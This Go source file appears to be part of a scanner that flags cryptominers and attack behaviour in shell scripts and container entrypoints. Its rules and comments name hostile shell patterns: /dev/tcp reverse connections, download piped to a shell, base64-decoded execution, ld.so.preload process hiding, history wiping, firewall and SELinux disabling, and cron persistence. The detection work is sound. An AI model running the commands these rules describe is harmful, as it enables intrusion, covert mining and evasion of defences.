package hierarchical

// The shell-level rules, applied to the commands and pipelines parseShell
// (shell.go) collected in its one pass over the syntax tree: per command
// (miners, defence evasion, downloads, persistence), per pipeline (download
// piped to a shell, kill lists) and across a script (download, chmod +x,
// run).

import (
	"fmt"
	"path"
	"strings"
)

// evidenceLimit caps evidence strings so findings stay readable.
const evidenceLimit = 200

func clip(s string) string {
	s = strings.Join(strings.Fields(s), " ")
	if len(s) > evidenceLimit {
		return s[:evidenceLimit] + "..."
	}
	return s
}

// shellMinerContext are the rules that mean "this command line is mining".
var shellMinerContext = map[string]bool{
	RuleRunMiner: true, RuleEntrypointMiner: true, RuleMinerOptions: true, RuleStratumURL: true,
	RulePoolDomain: true, RuleBackgroundMiner: true, RuleMinerCmdline: true, RuleNodeMining: true,
}

// downloadExecRules mean "this command line fetches and runs code".
var downloadExecRules = map[string]bool{
	RuleDownloadPipeShell: true, RuleBase64Exec: true, RuleDownloadChmodExec: true,
}

// analyzeScript applies the command, pipeline and script-wide rules. entry
// marks commands that are the container's ENTRYPOINT/CMD.
func analyzeScript(sc script, entry bool) []hit {
	var hits []hit
	add := func(rule, ev string) { hits = append(hits, hit{rule: rule, evidence: clip(ev)}) }
	devTCP := false
	for _, c := range sc.cmds {
		analyzeCommand(c, entry, add)
		for _, r := range c.redirs {
			devTCP = devTCP || isDevTCP(r.target)
		}
	}
	for _, p := range sc.pipes {
		analyzePipe(p, add)
		if devTCP && pipeRunsInterpreter(p) {
			// exec 3<>/dev/tcp/HOST/PORT ... cat <&3 | sh: bash's own
			// socket (bash(1), REDIRECTION) as the downloader.
			add(RuleDownloadPipeShell, pipeLine(p)+" (reads a /dev/tcp connection)")
		}
	}
	analyzeChmodExec(sc.cmds, add)
	for _, u := range sc.unparsed {
		hits = append(hits, unparsedHits(u)...)
	}
	return hits
}

// unparsedHits reports shell text that was not parsed as not scanned, so a
// verdict over it cannot be clean, and keeps what the text rules find in it
// (stratum URLs, pool domains, miner options, repositories, wallets): they
// need no parse.
func unparsedHits(u unparsed) []hit {
	hits := []hit{{rule: RuleNotScanned, evidence: fmt.Sprintf(
		"shell text of %d bytes not parsed (%s): commands, pipelines and scripts it runs were not analysed, only text indicators; starts %q",
		len(u.text), u.why, clip(u.text[:min(len(u.text), 40)]))}}
	t := newTextScanner(false)
	t.scan([]byte(u.text), true, true)
	return append(hits, t.finish()...)
}

func analyzeCommand(c command, entry bool, add func(rule, ev string)) {
	for _, a := range c.assigns {
		if isHistoryDisable(a) {
			add(RuleDefenseEvasion, a)
		}
	}
	for _, r := range c.redirs {
		redir := strings.Join(c.argv, " ") + " " + r.op + " " + r.target
		switch {
		case strings.Contains(r.target, "nr_hugepages") || strings.Contains(r.target, "/sys/module/msr/parameters/allow_writes"):
			add(RuleHugepagesMSR, redir)
		case r.target == "/etc/ld.so.preload" && (r.op == ">" || r.op == ">>"):
			// A library preloaded into every process hides the miner's
			// (gianlucaborello/libprocesshider; TeamTNT and Kinsing).
			add(RuleDefenseEvasion, redir)
		case isDevTCP(r.target):
			if host, _, _ := strings.Cut(strings.TrimPrefix(strings.TrimPrefix(r.target, "/dev/tcp/"), "/dev/udp/"), "/"); isIPv4(host) && !strings.HasPrefix(host, "127.") && host != "0.0.0.0" {
				add(RuleRawIPDownload, redir)
			}
			if eff, _ := effective(c.argv); len(eff) > 0 && interpreter[progName(eff[0])] && strings.Contains(r.op, "<") {
				add(RuleDownloadPipeShell, redir) // bash < /dev/tcp/HOST/PORT
			}
		}
	}
	eff, bg := effective(c.argv)
	if len(eff) == 0 {
		return
	}
	line := strings.Join(c.argv, " ")
	lower := strings.ToLower(line)
	prog := progName(eff[0])
	args := eff[1:]

	// Text indicators anywhere on the line: pool URLs, domains, wallets, repos.
	textHits := scanLine(line)
	for _, h := range textHits {
		add(h.rule, h.evidence)
	}
	hasStratum := false
	for _, h := range textHits {
		hasStratum = hasStratum || h.rule == RuleStratumURL
	}

	minerProg := isMinerName(prog) || isMinerName(launchedName(prog, args))
	if minerProg {
		if entry {
			add(RuleEntrypointMiner, line)
		} else {
			add(RuleRunMiner, line)
		}
	}
	opts := minerOptRe.FindString(lower)
	if opts != "" {
		add(RuleMinerOptions, strings.TrimSpace(opts))
	}
	cmdline := minerCmdline(prog, args)
	if cmdline {
		add(RuleMinerCmdline, line)
	}
	if flag := nodeMining(prog, args); flag != "" {
		add(RuleNodeMining, line)
	}
	if pyFetchExec(prog, args) {
		add(RuleDownloadPipeShell, line)
	}
	if (c.background || bg) && (minerProg || opts != "" || hasStratum || cmdline) {
		add(RuleBackgroundMiner, line)
	}
	if minerProg || opts != "" || hasStratum || cmdline {
		for _, u := range urlArgs(args) {
			if minerPorts[portOf(u)] {
				add(RuleMinerPort, u)
			}
		}
	}

	switch {
	case killers[prog]:
		if name := minerMention(strings.ToLower(strings.Join(args, " "))); name != "" {
			add(RuleKillCompetitors, line)
		}
	case prog == "history" && contains(args, "-c"):
		add(RuleDefenseEvasion, line)
	case prog == "ufw" && contains(args, "disable"):
		add(RuleDefenseEvasion, line)
	case prog == "setenforce" && (contains(args, "0") || strings.EqualFold(strings.Join(args, ""), "permissive")):
		add(RuleDefenseEvasion, line)
	case prog == "chattr":
		for _, a := range args {
			if chattrFlags.MatchString(a) {
				add(RuleDefenseEvasion, line)
				break
			}
		}
	case prog == "unset" && contains(args, "HISTFILE"):
		add(RuleDefenseEvasion, line)
	case prog == "export":
		for _, a := range args {
			if isHistoryDisable(a) {
				add(RuleDefenseEvasion, line)
			}
		}
	case prog == "systemctl" || prog == "service":
		stop := false
		for _, a := range args {
			stop = stop || a == "stop" || a == "disable" || a == "mask"
		}
		for _, a := range args {
			if stop && securityUnits.MatchString(a) {
				add(RuleDefenseEvasion, line)
				break
			}
		}
	case prog == "sysctl":
		if strings.Contains(lower, "vm.nr_hugepages") {
			add(RuleHugepagesMSR, line)
		}
	case prog == "modprobe":
		if contains(args, "msr") {
			add(RuleHugepagesMSR, line)
		}
	case prog == "wrmsr":
		add(RuleHugepagesMSR, line)
	}

	if downloaders[prog] || (prog == "git" && contains(args, "clone")) {
		for _, a := range args {
			if m := rawIPURL.FindStringSubmatch(a); m != nil && isIPv4(m[1]) {
				add(RuleRawIPDownload, line)
				break
			}
		}
	}
	// A clone of a miner repository from any host: mirrors, self-hosted
	// forges and raw IPs serve the same trees as github.com (the text rule
	// knows only the public forges' host names).
	if prog == "git" && contains(args, "clone") {
		for _, a := range args {
			if minerRepos[cloneRepoName(a)] {
				add(RuleMinerRepo, line)
				break
			}
		}
	}
	if interpreter[prog] || prog == "eval" || prog == "source" || prog == "." {
		joined := strings.ToLower(strings.Join(args, " "))
		if hasDownloadSubst(joined) {
			add(RuleDownloadPipeShell, line)
		}
		if strings.Contains(joined, "base64 -d") || strings.Contains(joined, "base64 --decode") || strings.Contains(joined, "base64 -D") {
			add(RuleBase64Exec, line)
		}
	}

	if prog == "tee" {
		for _, a := range args {
			if a == "/etc/ld.so.preload" {
				add(RuleDefenseEvasion, line)
			}
		}
	}

	// Writing a cron/systemd/rc entry from a script: echo ... >> /etc/crontab,
	// cat > /etc/cron.d/x <<EOF.
	targets := c.redirs
	if prog == "tee" && c.heredoc != "" {
		for _, a := range args {
			targets = append(targets, redirect{op: ">", target: a})
		}
	}
	for _, r := range targets {
		if r.op != ">" && r.op != ">>" {
			continue
		}
		if pk := persistenceKindOf(strings.TrimPrefix(r.target, "/")); pk != persistNone {
			text := c.heredoc
			if text == "" && (prog == "echo" || prog == "printf") {
				text = strings.Join(args, " ")
			}
			checkPersistenceText(pk, r.target, text, add)
		}
	}
}

// analyzePipe applies rules that need the pipeline's structure.
func analyzePipe(stages [][]command, add func(rule, ev string)) {
	line := pipeLine(stages)
	fetch, decode, mention := -1, -1, -1
	for i, stage := range stages {
		for _, c := range stage {
			eff, _ := effective(c.argv)
			if len(eff) == 0 {
				continue
			}
			prog := progName(eff[0])
			switch {
			case downloaders[prog] && fetch < 0:
				fetch = i
			case prog == "base64" && (contains(eff[1:], "-d") || contains(eff[1:], "--decode") || contains(eff[1:], "-D")),
				prog == "openssl" && contains(eff[1:], "-d") && (contains(eff[1:], "base64") || contains(eff[1:], "-base64")):
				if decode < 0 {
					decode = i
				}
			}
			if interpreter[prog] && i > 0 {
				// Executing the output of an earlier stage.
				if fetch >= 0 && fetch < i {
					add(RuleDownloadPipeShell, line)
				}
				if decode >= 0 && decode < i && shellNames[prog] {
					add(RuleBase64Exec, line)
				}
			}
			joined := strings.ToLower(strings.Join(eff, " "))
			if mention < 0 && prog != "echo" && minerMention(strings.ToLower(strings.Join(eff[1:], " "))) != "" {
				mention = i
			}
			if mention >= 0 && mention < i && strings.Contains(joined, "kill") {
				add(RuleKillCompetitors, line)
			}
		}
	}
	// `(crontab -l; echo "* * * * * cmd") | crontab -` and `echo x | tee -a /etc/crontab`.
	last := stages[len(stages)-1]
	for _, c := range last {
		eff, _ := effective(c.argv)
		if len(eff) == 0 {
			continue
		}
		prog := progName(eff[0])
		target := ""
		kind := persistNone
		switch prog {
		case "crontab":
			target, kind = "crontab", persistUserCron
		case "tee":
			for _, a := range eff[1:] {
				if k := persistenceKindOf(strings.TrimPrefix(a, "/")); k != persistNone {
					target, kind = a, k
				}
			}
		}
		if kind == persistNone {
			continue
		}
		var texts []string
		for _, stage := range stages[:len(stages)-1] {
			for _, e := range stage {
				if len(e.argv) > 0 && (progName(e.argv[0]) == "echo" || progName(e.argv[0]) == "printf") {
					texts = append(texts, strings.Join(e.argv[1:], " "))
				}
			}
		}
		checkPersistenceText(kind, target, strings.Join(texts, "\n"), add)
	}
}

// analyzeChmodExec finds "chmod +x F ... F" and "download F, chmod +x F, run F".
func analyzeChmodExec(cmds []command, add func(rule, ev string)) {
	downloaded := map[string]bool{} // full paths and base names
	chmodded := map[string]string{} // path or base name -> chmod line
	for _, c := range cmds {
		eff, _ := effective(c.argv)
		if len(eff) == 0 {
			continue
		}
		prog := progName(eff[0])
		switch prog {
		case "curl", "wget":
			for _, t := range downloadTargets(prog, eff[1:]) {
				downloaded[t] = true
				downloaded[path.Base(t)] = true
			}
			continue
		case "chmod":
			if targets, ok := chmodExecTargets(eff[1:]); ok {
				line := strings.Join(c.argv, " ")
				for _, t := range targets {
					chmodded[t] = line
					chmodded[path.Base(t)] = line
				}
			}
			continue
		}
		run := eff[0]
		if shellNames[prog] && len(eff) > 1 && !strings.HasPrefix(eff[1], "-") {
			run = eff[1]
		}
		if run == "" || !(strings.Contains(run, "/")) {
			continue
		}
		key := run
		if _, ok := chmodded[key]; !ok {
			key = path.Base(run)
		}
		chLine, ok := chmodded[key]
		if !ok {
			continue
		}
		ev := chLine + " ; " + strings.Join(c.argv, " ")
		if downloaded[key] || downloaded[path.Base(run)] {
			add(RuleDownloadChmodExec, ev)
		} else {
			add(RuleChmodExec, ev)
		}
	}
}

func pipeLine(stages [][]command) string {
	var parts []string
	for _, st := range stages {
		var cs []string
		for _, c := range st {
			cs = append(cs, strings.Join(c.argv, " "))
		}
		parts = append(parts, strings.Join(cs, "; "))
	}
	return strings.Join(parts, " | ")
}

// launchedName is the name of the program a runtime starts: the jar of
// java -jar, the script of python, node, perl, ruby or php (the first file
// readsOf finds for them), without its extension ("" for anything else).
// A miner that runs on a JVM or an interpreter is named by its jar or
// script.
func launchedName(prog string, args []string) string {
	if prog != "java" && (!(interpreter[prog] || strings.HasPrefix(prog, "python") || prog == "nodejs") || shellNames[prog]) {
		return ""
	}
	reads := readsOf(append([]string{prog}, args...))
	if len(reads) == 0 {
		return ""
	}
	base := path.Base(reads[0])
	for _, ext := range []string{".jar", ".py", ".js", ".mjs", ".cjs", ".pl", ".rb", ".php"} {
		if strings.HasSuffix(strings.ToLower(base), ext) {
			return base[:len(base)-len(ext)]
		}
	}
	return ""
}

// isDevTCP: bash's network redirection targets (bash(1), REDIRECTION:
// /dev/tcp/host/port, /dev/udp/host/port).
func isDevTCP(target string) bool {
	return strings.HasPrefix(target, "/dev/tcp/") || strings.HasPrefix(target, "/dev/udp/")
}

// pipeRunsInterpreter: a stage after the first is a shell or interpreter
// (it runs what the earlier stages print).
func pipeRunsInterpreter(stages [][]command) bool {
	for i, stage := range stages {
		for _, c := range stage {
			if eff, _ := effective(c.argv); i > 0 && len(eff) > 0 && interpreter[progName(eff[0])] {
				return true
			}
		}
	}
	return false
}
